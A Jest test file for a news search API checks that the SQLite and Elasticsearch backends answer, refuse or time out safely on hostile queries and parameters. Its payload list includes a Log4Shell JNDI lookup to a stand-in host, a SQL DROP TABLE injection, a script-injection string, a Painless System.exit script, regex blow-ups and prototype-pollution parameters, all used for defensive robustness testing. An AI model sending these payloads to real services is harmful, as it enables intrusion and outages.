import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Client } from '@elastic/elasticsearch';
import { openElasticLibrary, type Library } from '@newsmill/store';
import fc from 'fast-check';
import { deleteNamespace } from '../../libs/store/src/testing/delete-namespace.ts';
import { openSeededApp, seededKey, type SeededApp } from '../../services/api/src/testing/seeded-app.ts';
import { seededArticles } from '../../services/api/src/testing/seeded-articles.ts';
import { serverStartLimitMs, startServers, type Servers } from '../servers/start-servers.ts';

/** What people with ill will, and broken programs, send as a query. */
const hostile: readonly string[] = [
  '*'.repeat(1_000),
  '* '.repeat(400),
  `${'a* '.repeat(64)}`,
  '?*?*',
  '/(a+)+$/',
  '/.*/',
  'title:/.*(a|b)*/',
  'a~2',
  'a^1000',
  '"',
  "'",
  '""',
  '“',
  '((((((((((',
  '))))',
  'NOT',
  'NOT NOT NOT a',
  '-',
  '--a',
  ':',
  '::',
  'title:',
  'title::a',
  '_exists_:title',
  '_id:1',
  '_source:x',
  '{"script":{"source":"System.exit(0)"}}',
  '{"query":{"match_all":{}},"size":1000000000}',
  '${jndi:ldap://x.example/a}',
  '<script>alert(1)</script>',
  "'; DROP TABLE article; --",
  'words MATCH "x" OR 1=1',
  'NEAR(a b, 1000)',
  '{title}: x',
  'meta:"xall"',
  'rowid:1',
  'published:>9999-12-31',
  'published:0000',
  'published:<0001-01-01',
  'published:>now-36500d',
  'published:>now-999999999d',
  'wordCount:>1000000000',
  'wordCount:99999999999999999999',
  'wordCount:-1',
  'published:[* TO *]',
  'published:{2026 TO 2027}',
  'published:2026..2026..2026',
  'published:>=>=2026',
  'readingMinutes:1e9',
  'id:',
  'id:*',
  `id:${'x'.repeat(900)}`,
  'has:*',
  'paywalled:maybe',
  'country:%00',
  '\u0000',
  'a\u0000b',
  '\ufeff',
  '\u202e\u202d',
  '\ud800',
  '🙂'.repeat(200),
  '港'.repeat(900),
  'ﷺ'.repeat(300),
  'e\u0301'.repeat(400),
  `${'\u0300'.repeat(900)}`,
  'ß'.repeat(999),
  'İ'.repeat(500),
  `"${'a '.repeat(400)}"~100`,
  `"${'b '.repeat(300)}"`,
  `${'(a OR '.repeat(16)}b${')'.repeat(16)}`,
  `${'(a OR published:2026 '.repeat(14)}${')'.repeat(14)}`,
  Array.from({ length: 64 }, (_, i) => `w${i}*`).join(' OR '),
  Array.from({ length: 64 }, (_, i) => `wordCount:${i}`).join(' OR '),
  `-(${Array.from({ length: 30 }, (_, i) => `a${i} -wordCount:${i}`).join(' OR ')})`,
];
const parameters: readonly string[] = [
  'limit=1000000000',
  'limit=-1',
  'limit=1e9',
  'limit=NaN',
  'size=1000000000',
  'from=0&size=1000000',
  'cursor=AAAA',
  `cursor=${Buffer.from('["x",1,2]').toString('base64url')}`,
  `cursor=${'A'.repeat(2_001)}`,
  'sort=_script',
  'sort=both&cursor=WyJ4Il0',
  'collapse=_id',
  'facets=day,day,day,day',
  `facets=${'source,'.repeat(200)}`,
  'from=0000-01-01',
  'from=9999-12-31&to=0001-01-01',
  'from=2026-02-31',
  'to=+275760-09-13',
  'language=*',
  `source=${'x,'.repeat(150)}`,
  'q[]=a',
  'q[$gt]=',
  'q=a&q=b',
  '__proto__=1',
  'constructor=1',
  'script=1',
  'source_content_type=application/json',
];
const pieces = fc.constantFrom(
  '"',
  '(',
  ')',
  '-',
  '*',
  ':',
  '~',
  '~9',
  ' ',
  ' ',
  'AND ',
  ' OR ',
  'NOT ',
  'title:',
  'published:',
  'wordCount:',
  'has:',
  'family:',
  'duplicate:true',
  '>=',
  '<',
  '..',
  '2026-11',
  'now-7d',
  'today',
  'ferry',
  'fer*',
  '港口',
  '“',
  '\u0000',
  '/',
  '\\',
  '[',
  '{',
  '9',
  'a',
  '+',
  '^',
);
const anyQuery = fc.oneof(
  fc.string({ maxLength: 120, unit: 'grapheme' }),
  fc.array(pieces, { maxLength: 40 }).map((list) => list.join('')),
);
const routes = [
  '/api/v1/search?',
  '/api/v1/search?sort=both&collapse=story&facets=source,day&',
  '/api/v1/timeline?',
  '/api/v1/top?field=person&',
  '/api/v1/trends?',
];

describe('hostile queries', () => {
  const namespace = `hostile-${randomBytes(6).toString('hex')}`;
  const apps = new Map<string, SeededApp>();
  let servers: Servers;
  let client: Client;
  let elastic: Library;
  beforeAll(async () => {
    servers = await startServers(['elasticsearch']);
    client = new Client({ node: servers.elasticsearch.url });
    elastic = await openElasticLibrary({ url: servers.elasticsearch.url, namespace });
    await elastic.write(seededArticles());
    await elastic.refresh();
    apps.set('SQLite', await openSeededApp());
    apps.set('Elasticsearch', await openSeededApp({ library: elastic }));
  }, serverStartLimitMs);
  afterAll(async () => {
    for (const app of apps.values()) await app.close();
    await deleteNamespace(client, namespace);
    await client.close();
    await servers.close();
  }, serverStartLimitMs);

  /** Answers, refuses with a reason, or ends the search; never fails. */
  async function fate(form: string, path: string): Promise<void> {
    const answer = await fetch(`${apps.get(form)?.address}${path}`, {
      headers: { authorization: `Bearer ${seededKey}` },
    });
    const text = await answer.text();
    if (answer.status === 200) return;
    const body: { readonly code?: string; readonly errors?: readonly unknown[] } =
      text === '' ? {} : JSON.parse(text);
    const isRefused =
      [400, 404, 414, 431].includes(answer.status) ||
      (answer.status === 503 && body.code === 'search-timeout');
    expect({ path: path.slice(0, 300), status: answer.status, code: body.code, isRefused }).toMatchObject({
      isRefused: true,
    });
  }

  it.each(['SQLite', 'Elasticsearch'])(
    'are answered, refused with a reason or ended by %s',
    async (form) => {
      for (const route of routes)
        for (const text of hostile) await fate(form, `${route}q=${encodeURIComponent(text.toWellFormed())}`);
      for (const route of routes) for (const text of parameters) await fate(form, `${route}${text}`);
    },
    240_000,
  );

  it.each(['SQLite', 'Elasticsearch'])(
    'of any kind are borne by %s',
    async (form) => {
      await fc.assert(
        fc.asyncProperty(fc.constantFrom(...routes), anyQuery, (route, text) =>
          fate(form, `${route}q=${encodeURIComponent(text.toWellFormed())}`),
        ),
        { numRuns: 400 },
      );
    },
    240_000,
  );

  it('that are too long for a request are refused before they are read', async () => {
    const answer = await fetch(
      `${apps.get('SQLite')?.address}/api/v1/search?q=${'a'.repeat(1_000_000)}`,
    ).then(
      ({ status }) => status,
      () => 431,
    );
    expect([400, 414, 431]).toContain(answer);
    expect((await fetch(`${apps.get('SQLite')?.address}/api/v1/search?q=ferry`)).status).toBe(200);
  });
});
